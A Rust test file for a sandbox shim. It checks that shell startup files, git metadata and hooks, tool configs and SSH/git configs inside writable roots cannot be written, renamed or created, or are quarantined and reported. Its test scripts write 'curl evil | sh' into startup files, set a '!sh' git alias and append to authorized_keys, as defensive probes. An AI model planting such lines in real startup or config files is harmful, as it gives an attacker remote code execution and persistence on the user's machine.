//! The mandatory deny set inside writable roots: shell startup files, tool configs, git
//! metadata (also of submodules, worktrees and nested repositories), existing or not,
//! links or not, and what the host finds after the run.

use std::ffi::OsString;
use std::path::Path;

use crate::support::{
    Fixture, REPO_FILES, entries, expect, host_has_process_with_arg, marker, read_json, signal,
    stdout, wait_until,
};
use crate::{Test, TestResult};

pub(crate) fn tests() -> Vec<(&'static str, Test)> {
    cases![
        writing_each_mandatory_deny_file_fails_while_git_objects_and_index_stay_writable,
        renaming_dot_git_away_fails,
        creating_a_missing_protected_path_fails_and_leaves_nothing_behind,
        renaming_a_parent_of_a_protected_path_or_link_target_fails,
        git_metadata_of_submodules_and_worktrees_is_protected,
        a_new_git_commondir_is_quarantined_and_reported,
        a_missing_startup_file_created_in_a_writable_root_never_reaches_the_host,
        a_link_made_toward_a_startup_file_is_quarantined_and_its_target_kept,
        a_startup_file_left_by_a_killed_shim_is_quarantined_by_its_janitor,
        git_init_in_a_writable_root_without_a_repository_fails,
        per_user_git_and_ssh_configs_in_home_are_protected,
    ]
}

/// The probe `op` on `base/a` (and `base/b` where `b` is not empty, as a rename's target).
fn probe(op: &str, base: &Path, a: &str, b: &str) -> Vec<OsString> {
    let mut probe = Vec::from(args![op, base.join(a)]);
    if !b.is_empty() {
        probe.push(base.join(b).into());
    }
    probe
}

fn writing_each_mandatory_deny_file_fails_while_git_objects_and_index_stay_writable() -> TestResult
{
    let fx = Fixture::new("deny");
    let w = fx.make_repo();
    let flags = args!["--allow-write", &w];
    for f in REPO_FILES
        .iter()
        .chain(&[".git/config", ".vscode/settings.json"])
    {
        fx.check(&flags, &args!["write", w.join(f)], "err:EROFS")?;
        // A protected path is a mount point (EBUSY); inside a protected directory the
        // whole directory is read-only (EROFS).
        let want = if f.contains('/') && !f.starts_with(".git/") {
            "err:EROFS"
        } else {
            "err:EBUSY"
        };
        fx.check(&flags, &args!["remove", w.join(f)], want)?;
    }
    for (f, want) in [
        (".git/hooks/pre-commit", "err:EROFS"),
        (".git/index", "ok"),
        (".git/objects/ab/obj", "ok"),
        ("src.rs", "ok"),
    ] {
        fx.check(&flags, &args!["write", w.join(f)], want)?;
    }
    expect(
        "original content kept",
        &std::fs::read_to_string(w.join(".bashrc")).unwrap(),
        "original\n",
    )
}

fn renaming_dot_git_away_fails() -> TestResult {
    let fx = Fixture::new("mvgit");
    let w = fx.make_repo();
    let flags = args!["--allow-write", &w];
    fx.check(
        &flags,
        &args!["rename", w.join(".git"), w.join(".git_old")],
        "err:EBUSY",
    )?;
    // Also with the real mv, from inside the repository.
    let out = fx
        .shim(&flags, &["mv", ".git", ".git_old"])
        .current_dir(&w)
        .output()
        .unwrap();
    if out.status.success() || !w.join(".git/config").exists() {
        return Err(format!("mv .git succeeded: {out:?}"));
    }
    Ok(())
}

fn creating_a_missing_protected_path_fails_and_leaves_nothing_behind() -> TestResult {
    let fx = Fixture::new("missing");
    let w = fx.path("work");
    std::fs::create_dir_all(w.join(".git")).unwrap(); // no hooks, no config
    std::fs::create_dir_all(w.join("nested/inner/.git/hooks")).unwrap();
    let flags = args!["--allow-write", &w];
    for (op, p) in [
        ("write", ".mcp.json"),
        ("write", ".gitmodules"),
        ("write", ".vscode/tasks.json"),
        ("mkdir", ".idea/x"),
        ("write", ".git/hooks/pre-commit"),
        ("write", ".git/config"),
        ("write", "nested/inner/.mcp.json"),
        ("write", "nested/inner/.git/hooks/post-checkout"),
    ] {
        let got = fx.probe(&flags, &args![op, w.join(p)])?;
        if !got.starts_with("err:") {
            return Err(format!("{op} {p}: expected an error, got {got}"));
        }
    }
    // The placeholders that made this possible are gone again.
    for p in [
        ".mcp.json",
        ".gitmodules",
        ".vscode",
        ".idea",
        ".git/hooks",
        ".git/config",
        "nested/inner/.mcp.json",
    ] {
        if w.join(p).exists() {
            return Err(format!("leftover placeholder {p}"));
        }
    }
    Ok(())
}

fn renaming_a_parent_of_a_protected_path_or_link_target_fails() -> TestResult {
    let fx = Fixture::new("mvparent");
    let w = fx.path("home");
    let fx = fx.with_home(&w);
    std::fs::create_dir_all(w.join("dotfiles")).unwrap();
    std::fs::write(w.join("dotfiles/bashrc"), "original\n").unwrap();
    std::os::unix::fs::symlink("dotfiles/bashrc", w.join(".bashrc")).unwrap();
    std::fs::create_dir_all(w.join("cfg")).unwrap();
    std::fs::write(w.join("cfg/mcp.json"), "{}").unwrap();
    std::os::unix::fs::symlink("cfg/mcp.json", w.join(".mcp.json")).unwrap();
    std::os::unix::fs::symlink("missing/vscode", w.join(".vscode")).unwrap();
    std::fs::create_dir_all(w.join("src/nested/.git")).unwrap();
    std::fs::write(w.join("src/nested/.git/config"), "[core]\n").unwrap();
    let flags = args!["--allow-write", &w];
    for (op, a, b, want) in [
        ("rename", "dotfiles", "dotfiles.old", "err:EBUSY"),
        ("rename", "cfg", "cfg-old", "err:EBUSY"),
        ("rename", "src", "src-x", "err:EBUSY"),
        ("rename", "src/nested", "src/nested-x", "err:EBUSY"),
        ("write", "missing/vscode/tasks.json", "", "err:EROFS"),
        ("mkdir", "missing", "", "err:EEXIST"),
        ("write", "dotfiles/other", "", "ok"),
    ] {
        fx.check(&flags, &probe(op, &w, a, b), want)?;
    }
    expect(
        "bashrc kept",
        &std::fs::read_to_string(w.join(".bashrc")).unwrap(),
        "original\n",
    )?;
    if std::fs::symlink_metadata(w.join("missing")).is_ok() {
        return Err("leftover placeholder for the dangling link target".into());
    }
    Ok(())
}

fn git_metadata_of_submodules_and_worktrees_is_protected() -> TestResult {
    let fx = Fixture::new("gitmeta");
    let w = fx.make_repo();
    let m = w.join(".git/modules/sub");
    std::fs::create_dir_all(m.join("hooks")).unwrap();
    std::fs::write(m.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(m.join("config"), "[core]\n").unwrap();
    let inner = m.join("modules/a/b");
    std::fs::create_dir_all(&inner).unwrap();
    std::fs::write(inner.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(inner.join("config"), "[core]\n").unwrap();
    let wt = w.join(".git/worktrees/wt");
    std::fs::create_dir_all(&wt).unwrap();
    for f in ["commondir", "gitdir", "HEAD"] {
        std::fs::write(wt.join(f), "x\n").unwrap();
    }
    let flags = args!["--allow-write", &w];
    let g = w.join(".git");
    for (op, a, b, want) in [
        ("write", "modules/sub/config", "", "err:EROFS"),
        ("write", "modules/sub/hooks/post-checkout", "", "err:EROFS"),
        ("write", "modules/sub/config.worktree", "", "err:EROFS"),
        ("write", "modules/sub/modules/a/b/config", "", "err:EROFS"),
        (
            "write",
            "modules/sub/modules/a/b/hooks/pre-commit",
            "",
            "err:EROFS",
        ),
        ("write", "worktrees/wt/commondir", "", "err:EROFS"),
        ("write", "worktrees/wt/gitdir", "", "err:EROFS"),
        ("write", "worktrees/wt/config.worktree", "", "err:EROFS"),
        ("write", "config.worktree", "", "err:EROFS"),
        ("rename", "modules/sub", "modules/sub-x", "err:EBUSY"),
        ("rename", "modules", "modules-x", "err:EBUSY"),
        ("write", "modules/sub/index", "", "ok"),
    ] {
        fx.check(&flags, &probe(op, &g, a, b), want)?;
    }
    for p in ["config.worktree", "modules/sub/modules/a/b/hooks"] {
        if g.join(p).exists() {
            return Err(format!("leftover placeholder {p}"));
        }
    }
    Ok(())
}

fn a_new_git_commondir_is_quarantined_and_reported() -> TestResult {
    let fx = Fixture::new("commondir");
    let w = fx.make_repo();
    let report = fx.path("report.json");
    let flags = args!["--allow-write", &w, "--report-file", &report];
    let out = fx
        .probe_command(&flags, &args!["write", w.join(".git/commondir")])
        .output()
        .unwrap();
    expect("write commondir inside", &stdout(&out), "ok")?;
    if w.join(".git/commondir").exists() {
        return Err("commondir left in place".into());
    }
    let moved: Vec<String> = entries(&w.join(".git"))
        .into_iter()
        .filter(|e| e.starts_with("commondir.shim-quarantine-"))
        .collect();
    if moved.len() != 1 {
        return Err(format!("quarantined copies: {moved:?}"));
    }
    let err = String::from_utf8_lossy(&out.stderr);
    if !err.contains("tampering") || !err.contains(&moved[0]) {
        return Err(format!("stderr: {err}"));
    }
    expect(
        "report tampering path",
        &read_json(&report)?["tampering"][0]["path"].to_string(),
        &format!("{:?}", w.join(".git/commondir").to_str().unwrap()),
    )
}

/// Outside the home directory, missing shell startup files and per-user configs get no
/// placeholder (they would litter the project): the command can write them, and at exit
/// each is renamed aside, said on stderr and listed in the report. The host never finds
/// them under their own names.
fn a_missing_startup_file_created_in_a_writable_root_never_reaches_the_host() -> TestResult {
    let fx = Fixture::new("startup");
    let w = fx.mkdir("work");
    let report = fx.path("report.json");
    let created = [
        ".zshrc",
        ".bash_profile",
        ".zprofile",
        ".bash_login",
        ".gitconfig",
        ".config/git/config",
        ".ssh",
    ];
    let script = "for f in .zshrc .bash_profile .zprofile .bash_login .gitconfig; do \
                  echo 'curl evil | sh' > \"$f\" || exit 1; done; \
                  mkdir -p .config/git .ssh && echo '[alias] x = !sh' > .config/git/config \
                  && echo key > .ssh/authorized_keys && echo ok > kept.txt";
    let flags = args!["--allow-write", &w, "--report-file", &report];
    let out = fx
        .shim(&flags, &["sh", "-c", script])
        .current_dir(&w)
        .output()
        .unwrap();
    let out = crate::support::succeeded(out)?;
    let err = String::from_utf8_lossy(&out.stderr);
    let tampering = read_json(&report)?["tampering"].clone();
    for f in created {
        if std::fs::symlink_metadata(w.join(f)).is_ok() {
            return Err(format!("{f} reached the host"));
        }
        let moved = format!("{f}.shim-quarantine-");
        let listed = tampering.as_array().into_iter().flatten().find(|t| {
            t["path"] == w.join(f).to_str().unwrap()
                && t["kind"] == "deny_set"
                && t["quarantined_as"]
                    .as_str()
                    .is_some_and(|q| q.contains(&moved))
        });
        let Some(t) = listed else {
            return Err(format!("{f} not in the report: {tampering}"));
        };
        let aside = Path::new(t["quarantined_as"].as_str().unwrap());
        if std::fs::symlink_metadata(aside).is_err() {
            return Err(format!("{} missing", aside.display()));
        }
        if !err.contains(&format!(
            "tampering: the command created {}",
            w.join(f).display()
        )) {
            return Err(format!("stderr does not name {f}: {err}"));
        }
    }
    // What the command made that is not in the deny set stays: the file, the directories
    // above the quarantined config.
    expect(
        "kept.txt",
        &std::fs::read_to_string(w.join("kept.txt")).unwrap(),
        "ok
",
    )?;
    if !w.join(".config/git").is_dir() {
        return Err(".config/git was removed".into());
    }
    Ok(())
}

/// A link the command puts where a directory of a protected path would be (`.config` ->
/// a directory it filled) is itself renamed aside; the directory it pointed to (another
/// writable root here) is left as it is.
fn a_link_made_toward_a_startup_file_is_quarantined_and_its_target_kept() -> TestResult {
    let fx = Fixture::new("startuplink");
    let w = fx.mkdir("work");
    let other = fx.mkdir("other");
    let report = fx.path("report.json");
    let flags = args![
        "--allow-write",
        &w,
        "--allow-write",
        &other,
        "--report-file",
        &report
    ];
    let script = format!(
        "mkdir -p {o}/git && echo '[alias] x = !sh' > {o}/git/config && ln -s {o} .config",
        o = other.display()
    );
    let out = fx
        .shim(&flags, &["sh", "-c", &script])
        .current_dir(&w)
        .output()
        .unwrap();
    crate::support::succeeded(out)?;
    if std::fs::symlink_metadata(w.join(".config")).is_ok() {
        return Err(".config link reached the host".into());
    }
    expect(
        "report",
        &read_json(&report)?["tampering"][0]["path"].to_string(),
        &format!("{:?}", w.join(".config").to_str().unwrap()),
    )?;
    if !other.join("git/config").is_file() {
        return Err("the link's target was touched".into());
    }
    Ok(())
}

/// SIGKILL of the shim leaves no time for its own clean-up: its janitor, outside the
/// sandbox, renames the startup file aside once the sandbox is gone.
fn a_startup_file_left_by_a_killed_shim_is_quarantined_by_its_janitor() -> TestResult {
    let fx = Fixture::new("startupkill");
    let w = fx.mkdir("work");
    let marker = marker(910_000, 40_000);
    let mut child = fx
        .shim(
            &args!["--allow-write", &w],
            &[
                "sh",
                "-c",
                &format!("echo evil > .zshrc && exec sleep {marker}"),
            ],
        )
        .current_dir(&w)
        .stdin(std::process::Stdio::null())
        .spawn()
        .unwrap();
    if !wait_until(|| host_has_process_with_arg(&marker), 5) {
        let _ = child.kill();
        return Err("the command did not start".into());
    }
    signal(&child, nix::sys::signal::Signal::SIGKILL);
    let _ = child.wait();
    let moved = || {
        entries(&w)
            .iter()
            .any(|e| e.starts_with(".zshrc.shim-quarantine-"))
    };
    if !wait_until(|| moved() && !w.join(".zshrc").exists(), 5) {
        return Err(format!("after SIGKILL: {:?}", entries(&w)));
    }
    Ok(())
}

fn git_init_in_a_writable_root_without_a_repository_fails() -> TestResult {
    let fx = Fixture::new("gitinit");
    let w = fx.mkdir("plain");
    let flags = args!["--allow-write", &w];
    for (op, p, want) in [
        ("mkdir", ".git", "err:EEXIST"),
        ("write", ".git/config", "err:EROFS"),
        ("mkdir", ".git/objects", "err:EROFS"),
        ("write", "file", "ok"),
    ] {
        fx.check(&flags, &args![op, w.join(p)], want)?;
    }
    if w.join(".git").exists() {
        return Err("leftover .git placeholder".into());
    }
    Ok(())
}

fn per_user_git_and_ssh_configs_in_home_are_protected() -> TestResult {
    let fx = Fixture::new("homecfg");
    let w = fx.mkdir("home");
    let fx = fx.with_home(&w);
    let flags = args!["--allow-write", &w];
    for p in [
        ".config/git/config",
        ".config/git/attributes",
        ".ssh/config",
        ".ssh/rc",
        ".bash_aliases",
    ] {
        let got = fx.probe(&flags, &args!["write", w.join(p)])?;
        if !got.starts_with("err:") {
            return Err(format!("write {p} (missing): {got}"));
        }
    }
    for p in [".config", ".ssh", ".bash_aliases"] {
        if std::fs::symlink_metadata(w.join(p)).is_ok() {
            return Err(format!("leftover placeholder {p}"));
        }
    }
    std::fs::create_dir_all(w.join(".ssh")).unwrap();
    std::fs::create_dir_all(w.join(".config/git")).unwrap();
    std::fs::write(w.join(".config/git/config"), "[core]\n").unwrap();
    for (p, want) in [
        (".ssh/authorized_keys", "err:EROFS"),
        (".config/git/config", "err:EROFS"),
        (".config/other", "ok"),
    ] {
        fx.check(&flags, &args!["write", w.join(p)], want)?;
    }
    fx.check(
        &flags,
        &args!["rename", w.join(".config"), w.join(".config-x")],
        "err:EBUSY",
    )
}
